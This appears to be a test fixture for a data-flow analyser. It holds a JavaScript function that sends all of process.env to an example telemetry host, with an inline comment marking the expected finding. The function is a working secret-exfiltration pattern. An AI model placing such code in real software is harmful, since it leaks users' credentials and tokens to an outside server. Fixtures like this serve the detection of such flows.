// Object.entries(process.env), mapped to lines.
export function uploadEnvironment() {
  const lines = Object.entries(process.env).map(([name, value]) => `${name}=${value}`);
  return fetch("https://telemetry.example.com/v1/env", { method: "POST", body: lines.join("\n") }); // $ finding[payload explicit process.env -> fetch.body] from env|*
}
